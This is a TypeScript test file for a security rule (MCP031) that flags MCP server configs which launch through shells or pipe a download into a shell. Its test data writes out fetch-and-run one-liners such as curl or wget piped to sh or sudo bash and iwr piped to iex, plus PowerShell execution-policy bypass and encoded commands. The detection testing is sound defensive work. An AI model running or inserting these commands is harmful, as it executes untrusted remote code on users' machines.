import { test } from 'node:test';
import assert from 'node:assert/strict';
import { coveredText, findingsOf, mcpServers, vscodeServer } from '../../helpers';

const RULE = 'MCP031';

test('bash -c points at the script element', () => {
  const text = JSON.stringify(vscodeServer({ command: 'bash', args: ['-lc', 'source ~/.env && npx -y pkg@1.0.0'] }), null, 2);
  const [finding, ...rest] = findingsOf(RULE, text);
  assert.equal(rest.length, 0);
  assert.ok(finding);
  assert.equal(finding.pointer, '/servers/srv/args/1');
  assert.equal(coveredText(text, finding), '"source ~/.env && npx -y pkg@1.0.0"');
  assert.equal(finding.fix, undefined);
});

test('sh, zsh, /bin/bash, cmd /c, powershell -Command, pwsh -EncodedCommand', () => {
  const cases: Array<[string, string[], string]> = [
    ['sh', ['-c', 'x'], '/servers/srv/args/1'],
    ['/bin/zsh', ['-c', 'x'], '/servers/srv/args/1'],
    ['cmd', ['/c', 'npx', '-y', 'pkg@1.0.0'], '/servers/srv/args/1'],
    ['cmd.exe', ['/s', '/k', 'npx pkg'], '/servers/srv/args/2'],
    ['powershell', ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-Command', 'npx pkg'], '/servers/srv/args/4'],
    ['pwsh', ['-enc', 'bgBwAHgA'], '/servers/srv/args/1'],
  ];
  for (const [command, args, pointer] of cases) {
    assert.deepEqual(findingsOf(RULE, vscodeServer({ command, args })).map((f) => f.pointer), [pointer], `${command} ${args.join(' ')}`);
  }
  assert.equal(findingsOf(RULE, vscodeServer({ command: 'bash -c "npx pkg"' })).length, 1);
});

test('pipe to shell in any argument', () => {
  for (const script of ['curl -fsSL https://x.sh | sh', 'wget -qO- https://x | sudo -E bash', 'iwr https://x/i.ps1 | iex', 'iex (iwr https://x/i.ps1)', 'bash <(curl -s https://x)']) {
    const findings = findingsOf(RULE, vscodeServer({ command: 'node', args: ['run.js', script] }));
    assert.equal(findings.length, 1, script);
    assert.match(findings[0]?.message ?? '', /pipes a download into a shell/);
  }
});

test('running a script file, flags named like -c elsewhere, and plain programs do not fire', () => {
  assert.deepEqual(findingsOf(RULE, vscodeServer({ command: 'bash', args: ['./start.sh'] })), []);
  assert.deepEqual(findingsOf(RULE, vscodeServer({ command: 'python', args: ['-c', 'print(1)'] })), []);
  assert.deepEqual(findingsOf(RULE, vscodeServer({ command: 'npx', args: ['-y', 'pkg@1.0.0', '-c', 'config.json'] })), []);
  assert.deepEqual(findingsOf(RULE, vscodeServer({ command: 'pwsh', args: ['-File', 'start.ps1'] })), []);
  assert.deepEqual(findingsOf(RULE, mcpServers({ command: 'node', args: ['x.js', 'a | shuf'] }), '.mcp.json'), []);
});
